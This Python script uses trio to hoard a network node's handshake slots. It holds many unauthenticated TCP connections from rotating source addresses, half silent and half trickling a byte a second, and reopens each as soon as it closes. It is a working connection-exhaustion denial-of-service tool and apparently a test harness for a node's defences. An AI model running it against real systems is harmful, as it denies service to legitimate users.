"""An attacker that hoards a node's handshake slots (run as its own process).

``python slot_hoarder.py HOST PORT SOURCES COUNT`` holds COUNT sockets to
HOST:PORT that never authenticate, dialled from the comma-separated SOURCES
addresses in turn; half stay silent, half send one byte a second. Each one is
reopened as soon as the node closes it. Prints ``opened N`` every second;
runs until killed.
"""

from __future__ import annotations

import sys

import trio


async def hold(host: str, port: int, source: str, trickle: bool, opened: list[int]) -> None:
    while True:
        sock = trio.socket.socket()
        try:
            await sock.bind((source, 0))
            await sock.connect((host, port))
        except OSError:
            sock.close()
            await trio.sleep(0.01)
            continue
        opened[0] += 1
        stream = trio.SocketStream(sock)
        try:
            while True:
                if trickle:
                    await stream.send_all(b"\x00")
                with trio.move_on_after(1.0):
                    if not await stream.receive_some(1024):
                        break
        except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
            pass
        finally:
            await trio.aclose_forcefully(stream)


async def main(host: str, port: int, sources: list[str], count: int) -> None:
    opened = [0]
    async with trio.open_nursery() as nursery:
        for i in range(count):
            nursery.start_soon(hold, host, port, sources[i % len(sources)], i % 2 == 1, opened)
        while True:
            await trio.sleep(1)
            print(f"opened {opened[0]}", flush=True)


if __name__ == "__main__":
    trio.run(main, sys.argv[1], int(sys.argv[2]), sys.argv[3].split(","), int(sys.argv[4]))
